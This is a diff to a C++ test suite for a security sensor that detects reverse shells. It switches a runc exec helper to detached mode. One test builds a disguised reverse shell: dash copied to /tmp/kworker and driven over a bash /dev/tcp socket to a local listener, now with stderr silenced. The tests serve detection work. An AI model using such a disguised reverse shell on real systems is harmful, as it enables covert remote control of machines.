@@ -28,11 +28,11 @@ std::string read_text(const std::string &path) {
     return s.str();
 }
 
-// `argv` run by `runc exec` in container `name`, with both its stdin and
-// stdout on `fd` (runc hands its own stdio to the process, as a containerd
-// shim's are handed on). Returns the exit status, or -1.
+// `argv` started by `runc exec --detach` in container `name`, with both its
+// stdin and stdout on `fd` (detached, runc hands its own stdio to the
+// process). Returns runc's exit status, or -1.
 int run_with_stdio(const std::string &name, const std::vector<std::string> &argv, int fd) {
-    std::vector<std::string> all = {"runc", "exec", name};
+    std::vector<std::string> all = {"runc", "exec", "--detach", name};
     all.insert(all.end(), argv.begin(), argv.end());
     const pid_t pid = fork();
     if (pid < 0) return -1;
@@ -156,7 +156,7 @@ TEST_CASE("reverse shells by their stdio: nc -e, bash /dev/tcp, python dup2 and 
         // a copy of dash called kworker: no shell name anywhere, but a network peer drives it
         REQUIRE(c.run({"/bin/bash", "-c",
                        "cp /usr/bin/dash /tmp/kworker && exec 3<>/dev/tcp/127.0.0.1/" + port +
-                           " && (/tmp/kworker -s renamed <&3 >&3 &)"}) == 0);
+                           " && (/tmp/kworker -s renamed <&3 >&3 2>/dev/null &)"}) == 0);
         REQUIRE(wait_stdio_verdict(sensor, "program_stdio_on_socket", id, {"/tmp/kworker", "-s", "renamed"}, v));
         CHECK(v.severity() == "medium");
         check_shell_process(v, id, listener);
